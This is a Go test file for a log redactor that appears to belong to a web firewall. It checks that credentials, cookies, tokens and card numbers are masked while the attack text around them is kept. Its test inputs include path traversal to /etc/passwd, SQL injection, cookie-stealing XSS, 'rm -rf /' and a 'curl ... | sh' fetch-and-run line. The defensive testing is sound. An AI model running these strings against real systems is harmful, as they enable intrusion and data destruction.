package redact

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/tinylib/msgp/msgp"

	"github.com/fluent-bit-waf/fluent-bit-waf/rules"
)

func newRedactor(t testing.TB, names []string, pattern string) *Redactor {
	t.Helper()
	r, err := New(names, pattern)
	require.NoError(t, err)
	return r
}

func TestSecretsAreFoundByWhatStandsAroundThem(t *testing.T) {
	r := newRedactor(t, []string{"Kundennummer"}, `ACME-(\d+)`)
	for name, c := range map[string]struct{ in, want string }{
		"basic credentials":     {"GET / HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXNz\r\nHost: a\r\n", "GET / HTTP/1.1\r\nAuthorization: Basic [redacted]\r\nHost: a\r\n"},
		"unknown scheme":        {"authorization: Custom abc def", "authorization: [redacted]"},
		"proxy credentials":     {"Proxy-Authorization:Bearer abc", "Proxy-Authorization:Bearer [redacted]"},
		"folded header":         {"Authorization: Digest a=1,\r\n\tb=2\r\nHost: a", "Authorization: Digest [redacted]\r\nHost: a"},
		"cookies":               {"Cookie: sid=abc; theme=dark; bare\r\n", "Cookie: sid=[redacted]; theme=[redacted]; [redacted]\r\n"},
		"cookie in quotes":      {`Cookie: a="x;y"; b=z`, "Cookie: a=[redacted]; b=[redacted]"},
		"set cookie":            {"Set-Cookie: sid=abc; Path=/; HttpOnly; odd=secret1\n", "Set-Cookie: sid=[redacted]; Path=/; HttpOnly; odd=[redacted]\n"},
		"header of a key":       {"X-Api-Key: 12345\nX-Other: 1", "X-Api-Key: [redacted]\nX-Other: 1"},
		"challenge":             {"WWW-Authenticate: Basic realm=x", "WWW-Authenticate: Basic realm=x"},
		"argument":              {"/login?user=bob&password=hunter2&x=1", "/login?user=bob&password=[redacted]&x=1"},
		"argument of an array":  {"/?user[pass]=hunter2&passenger=3", "/?user[pass]=[redacted]&passenger=3"},
		"escaped name":          {"/?pass%77ord=a&%2570wd=b&c=d", "/?pass%77ord=[redacted]&%2570wd=[redacted]&c=d"},
		"camel case":            {"/?userPin=1234&spin=1", "/?userPin=[redacted]&spin=1"},
		"own name":              {"/?kunden_nummer=77&nummer=1", "/?kunden_nummer=[redacted]&nummer=1"},
		"JSON":                  {`{"user":"bob","password" : "hun\"ter2","pin":1234,"x":1}`, `{"user":"bob","password" : "[redacted]","pin":[redacted],"x":1}`},
		"JSON in JSON":          {`{"a":"{\"password\":\"hunter2\",\"b\":1}"}`, `{"a":"{\"password\":\"[redacted]\",\"b\":1}"}`},
		"nested JSON":           {`{"credentials":{"a":["b}"],"c":2},"d":3}`, `{"credentials":[redacted],"d":3}`},
		"escaped name in JSON":  {`{"\u0070assword":"hunter2"}`, `{"\u0070assword":"[redacted]"}`},
		"cut JSON":              {`{"password":"hunt`, `{"password":"[redacted]`},
		"XML":                   {`<a><wsse:Password Type="x">hunter2</wsse:Password><b>1</b></a>`, `<a><wsse:Password Type="x">[redacted]</wsse:Password><b>1</b></a>`},
		"attribute":             {`<login password="hunter 2" user='bob'/>`, `<login password="[redacted]" user='bob'/>`},
		"hidden input":          {`<input type="hidden" name="csrf_token" value="abc123"><p>`, `<input type="hidden" name="csrf_token" value="[redacted]"><p>`},
		"part without a name":   {"Content-Disposition: form-data; name=\r\nX: y\r\n\r\nhunter2", "Content-Disposition: form-data; name=\r\nX: y\r\n\r\nhunter2"},
		"multipart":             {"--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\nhunter 2\r\n--b--", "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n[redacted]\n--b--"},
		"line of a log":         {"password: hunter 2\nuser: bob", "password: [redacted]\nuser: bob"},
		"bearer anywhere":       {"x Bearer abcdef-123456 y", "x Bearer [redacted] y"},
		"bearer in words":       {"the bearer of this", "the bearer of this"},
		"basic in words":        {"basic authentication", "basic authentication"},
		"JSON Web Token":        {"/reset/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc/x", "/reset/[redacted]/x"},
		"token of a service":    {"key ghp_0123456789abcdefghijABCDEFGHIJ012345.", "key [redacted]"},
		"private key":           {"a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "a [redacted]-----END RSA PRIVATE KEY-----"},
		"URL credentials":       {"see https://bob:hunter2@host/x@y", "see https://bob:[redacted]@host/x@y"},
		"card":                  {"no. 4111111111111111.", "no. [redacted]."},
		"card in groups":        {"5500 0000 0000 0004 and 3782-822463-10005", "[redacted] and [redacted]"},
		"card in a URL":         {"/?card=4111%201111+1111-1111&x=%204111111111111111", "/?card=[redacted]&x=%20[redacted]"},
		"two cards":             {"4111111111111111 5500000000000004", "[redacted] [redacted]"},
		"no card":               {"4111111111111112 1717053408917 20240530071648", "4111111111111112 1717053408917 20240530071648"},
		"own expression":        {"id ACME-4711 x", "id ACME-[redacted] x"},
		"nothing":               {"/?t=../../etc/passwd", "/?t=../../etc/passwd"},
		"name without a value":  {"/?password=&x=1", "/?password=&x=1"},
		"what matched by words": {"Matched Data: a found within ARGS:password: a b", "Matched Data: a found within ARGS:password: [redacted]"},
	} {
		t.Run(name, func(t *testing.T) { require.Equal(t, c.want, r.Line(c.in)) })
	}
}

func TestCleanTextsStayAsTheyAre(t *testing.T) {
	r := newRedactor(t, nil, "")
	for _, text := range []string{"", "=", ":", "://", "a=b&c=d", "\xff\xfe=%", "<>", "</password>", strings.Repeat("x", 1000)} {
		require.Equal(t, text, r.Line(text))
	}
	var none *Redactor
	require.Equal(t, "password=x", none.Line("password=x"))
	require.Nil(t, none.Start(&rules.Transaction{}).Found())
}

func TestSecretsAreFoundAgainUnderDisguise(t *testing.T) {
	r := newRedactor(t, nil, "")
	p := r.Start(&rules.Transaction{
		URI:            "/?password=correct%20horse+battery&q=1",
		RequestHeaders: []rules.Header{{Name: "Cookie", Value: "sid=Abcd-1234-efgh"}, {Name: "Authorization", Value: "Basic Ym9iOmh1bnRlcjIy"}},
		RequestBody:    `{"token":"line\/one\u0041bc","n":1}`,
	})
	require.Empty(t, p.Found(), "what was learned has not left")
	for _, c := range []struct{ in, want string }{
		{"hello correct horse battery!", "hello [redacted]!"},
		{"x CORRECT HORSE BATTERY", "x [redacted]"},
		{"correcthorsebattery", Placeholder},
		{"a abcd-1234-EFGH b", "a [redacted] b"},
		{"abcd 1234 efgh", Placeholder},
		{"your password is hunter22", "your password is [redacted]"},
		{"line/oneAbc", Placeholder},
		{"Y29ycmVjdCBob3JzZSBiYXR0ZXJ5", Placeholder},
		{"nothing of it", "nothing of it"},
	} {
		require.Equal(t, c.want, p.Text(c.in), c.in)
	}
	require.Equal(t, []string{"authorization", "cookie", "argument"}, p.Found())
}

func TestRecordsAreCleanedByTheirKeys(t *testing.T) {
	r := newRedactor(t, nil, "")
	in := map[string]any{
		"http_cookie": "sid=abc", "request_Authorization": "Bearer abcdefgh", "URL": "/?pwd=x",
		"headers": map[string]any{"Set-Cookie": []any{"a=b; Path=/"}, "X": "1"},
		"list":    []any{map[string]any{"name": "Cookie", "value": "a=b"}},
		"login":   map[string]any{"password": map[string]any{"value": "x", "n": int64(5)}, "pin": int64(77), "none": nil},
		"n":       int64(4), "ok": true,
	}
	value, err := msgp.AppendIntf(nil, in)
	require.NoError(t, err)
	p := r.Start(&rules.Transaction{})
	got, rest, err := msgp.ReadIntfBytes(p.AppendValue(nil, value))
	require.NoError(t, err)
	require.Empty(t, rest)
	require.Equal(t, map[string]any{
		"http_cookie": "sid=[redacted]", "request_Authorization": "Bearer [redacted]", "URL": "/?pwd=[redacted]",
		"headers": map[string]any{"Set-Cookie": []any{"a=[redacted]; Path=/"}, "X": "1"},
		"list":    []any{map[string]any{"name": "Cookie", "value": "a=[redacted]"}},
		"login":   map[string]any{"password": map[string]any{"value": Placeholder, "n": Placeholder}, "pin": Placeholder, "none": nil},
		"n":       int64(4), "ok": true,
	}, got)
	require.Equal(t, []string{"authorization", "cookie", "set-cookie", "argument"}, p.Found())
}

func TestExpressionsThatCannotBeUsedAreRefused(t *testing.T) {
	_, err := New(nil, "(")
	require.ErrorContains(t, err, "malformed expression")
	_, err = New(nil, "a*")
	require.ErrorContains(t, err, "matches the empty text")
}

// What a client sends decides how long a text takes; no text may take more than a time in proportion to its length.
func TestHostileTextsTakeNoLongerThanOthers(t *testing.T) {
	r := newRedactor(t, nil, "")
	const size = 1 << 20
	for _, part := range []string{
		"name=", "name=password ", `form-data; name="password" `, "://", "password=", `"password":"`, "<password>", "<password></b>",
		`x=";`, "Cookie: a;", "password:{", "1 ", "4111 ", "bearer ", "basic ", "eyJ", "%34", "\n", "\\\"", "a=\\", "-----BEGIN ",
		`"name":"password",`, `"name":"password",'`, "name=password&", "name: password\n", "<a name=password ", "<a name=", "<name>password</name><x>",
		"password:$a ", `"p":{`, "Content-Disposition: x; name=password\n", "/token/", "/reset", `"token",`, " --token ", "%25", "&amp;", `\u005c`, "password: |\n",
		"password=a ", "key=Zq7Xy9Wv2Kp4", "cGFzc3dvcmQ9aHVudGVy", "' = ", "&#37;2541", "%5cu0025", "1;\n",
	} {
		text := "Cookie: x=\"" + strings.Repeat(part, size/len(part))
		start := time.Now()
		r.Line(text)
		require.Less(t, time.Since(start), 5*time.Second, part)
	}
}

func FuzzLine(f *testing.F) {
	f.Add("Cookie: a=b; c\r\n x\r\nAuthorization: Basic x")
	f.Add(`{"password":{"a":[1,"]"]},"\"token\":\"x`)
	f.Add("<password>4111 1111-1111+1111</password> form-data; name=\"pin\"\r\n\r\n1\n--")
	r, err := New([]string{"own"}, "o(w)n")
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, text string) {
		once := r.Line(text)
		v := &view{text: text}
		r.pass().scan(v)
		for _, s := range v.spans {
			if s.start < 0 || s.end > len(text) || s.start >= s.end {
				t.Fatalf("span %v of %d bytes", s, len(text))
			}
		}
		p := r.Start(&rules.Transaction{URI: text, RequestBody: text, RequestHeaders: []rules.Header{{Name: "Cookie", Value: text}}})
		p.Text(once)
	})
}

// What stands under a name that tells little, or near the name of a secret, is what an alert is read for.
func TestWhatIsNoSecretStays(t *testing.T) {
	r := newRedactor(t, nil, "")
	p := r.Start(&rules.Transaction{RequestHeaders: []rules.Header{{Name: "Cookie", Value: "sid=9fQ2xW7zLp4Kd8"}}})
	for _, text := range []string{
		"/?key=name&t=../../etc/passwd", "/?key=user_id", "/?key=2024-05-30", "/?key=../../etc/passwd", "/?key=' OR 1=1--", "/?key=article/2024/my-title",
		"/?code=404", "/?code=en-US", "/?code=SUMMER24", "/?state=NY", "/?state=california", "/?state=open&sort=asc", "/?zipcode=90210",
		"/?hash=top", "/?ticket=1234", "/?sort_key=created_at", "/?monkey=banana", "/?keyword=tokenize", "/?passenger=3&spin=1",
		"/?cookie_consent=accepted", "/?accept_cookies=true", "/?idempotency_key=550e8400-e29b-41d4-a716-446655440000",
		"/reset/password", "/auth/login?next=/home", "/token/refresh", "/login/index.php", "/share/holiday-pictures-2024/beach",
		"/articles/2024/05/30/how-to-reset-a-password", "/static/app.9f86d081.js", "/api/v2/users/12345/orders",
		"https://git@host.example/x", "see https://host.example/a@b", "mailto:bob@host.example", "10:30:15@node1",
		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Protocol: graphql-transport-ws, v4.channel.k8s.io",
		"ETag: \"33a64df551425fcc55e4d42a148795d9f25f89d4\"", "X-Request-Id: 7f3a9c1e5b2d4f60", "Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
		"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "WWW-Authenticate: Bearer realm=\"x\", error=\"invalid\"",
		`{"name":"shoes","value":"Zq7Xy9Wv2Kp4"}`, `{"fields":["username","password","email"]}`, `{"key":"theme","value":"dark"}`, `{"code":404,"state":"open"}`,
		`{"type":"text","value":"hello"}`, "name=bob&value=3", "<name>shoes</name><value>3</value>", `<input name="q" value="shoes">`, `<meta name="viewport" content="width=device-width">`,
		"Content-Disposition: form-data; name=\"comment\"\r\n\r\nhello", "1 UNION SELECT name, value FROM users--", "q=<script>alert(document.cookie)</script>",
		"q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%27%20OR%201%3D1--", "q=a%26b%3Dc", "the key to success is a token of trust", "select * from keys where id=1",
		"rm -rf / --no-preserve-root x", "2024-05-30 07:16:48 192.0.2.1 - - 200 1234 567", "IMG_20240530_071648.jpg", "a+b+c=d+e", "x=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=",
	} {
		require.Equal(t, text, r.Line(text))
		require.Equal(t, text, p.Quoted(text))
	}
}

func TestAttacksInFrontOfAndBehindASecretStay(t *testing.T) {
	r := newRedactor(t, nil, "")
	for text, want := range map[string]string{
		"/?q=<script>&key=Zq7Xy9Wv2Kp4Lm6001&t=../../etc/passwd":     "/?q=<script>&key=[redacted]&t=../../etc/passwd",
		"/?key=Zq7Xy9Wv2Kp4Lm6001' OR 1=1--":                         "/?key=[redacted]' OR 1=1--",
		"/?code=123456&state=NY":                                     "/?code=[redacted]&state=NY",
		"/?u=http%3A%2F%2Fh%2F%3Fpwd%3Dhunter22%26x%3D1&t=%3Cscript": "/?u=http%3A%2F%2Fh%2F%3Fpwd%3D[redacted]%26x%3D1&t=%3Cscript",
		"/?password%3dhunter22&t=../../etc/passwd":                   "/?password%3d[redacted]&t=../../etc/passwd",
		`{"url":"/x?pwd\u003dhunter22\u0026q\u003d<script>"}`:        `{"url":"/x?pwd\u003d[redacted]\u0026q\u003d<script>"}`,
		"https://hunter22@h.example/?q=<script>":                     "https://[redacted]@h.example/?q=<script>",
		"/reset/token/Zq7Xy9Wv2Kp4Lm6001/../../etc/passwd":           "/reset/token/[redacted]/../../etc/passwd",
		"curl -u bob:hunter22 http://h/ | sh":                        "curl -u bob:[redacted] http://h/ | sh",
	} {
		require.Equal(t, want, r.Line(text))
	}
}

func TestAnyNumberOfSecretsIsLearned(t *testing.T) {
	r := newRedactor(t, nil, "")
	var body strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&body, "token%d=decoy-decoy-%05d&", i, i)
	}
	p := r.Start(&rules.Transaction{RequestBody: body.String() + "password=hunter-number-2"})
	require.Equal(t, "a [redacted] b [redacted]", p.Text("a hunter-number-2 b decoy-decoy-04999"))
	require.Equal(t, "a decoy-decoy-x", p.Text("a decoy-decoy-x"))

	for i := range 20000 {
		fmt.Fprintf(&body, "token%d=another-secret-%05d&", i, i)
	}
	p = r.Start(&rules.Transaction{RequestBody: body.String()})
	require.Equal(t, Placeholder, p.Text("Path Traversal Attack"), "more than can be learned: nothing can be told from a secret")
}

func TestLongNamesAreNames(t *testing.T) {
	r := newRedactor(t, nil, "")
	name := "password" + strings.Repeat("x", 5000)
	require.Equal(t, name+"="+Placeholder, r.Line(name+"=hunter22"))
	require.Equal(t, `{"`+name+`":"`+Placeholder+`"}`, r.Line(`{"`+name+`":"hunter22"}`))
}

func TestCardsAreFoundBehindEscapes(t *testing.T) {
	r := newRedactor(t, nil, "")
	const card = "4111111111111111"
	percent, unicode := "", ""
	for _, c := range card {
		percent += fmt.Sprintf("%%%02x", c)
		unicode += fmt.Sprintf(`\u%04x`, c)
	}
	for text, want := range map[string]string{
		"/?c=" + percent + "&x=1":       "/?c=[redacted]&x=1",
		`{"c":"` + unicode + `"}`:       `{"c":"[redacted]"}`,
		"/?c=%34111-1111%2d1111-1111":   "/?c=[redacted]",
		"4111\u00a01111\u20111111_1111": "[redacted]",
	} {
		require.Equal(t, want, r.Line(text))
	}
}
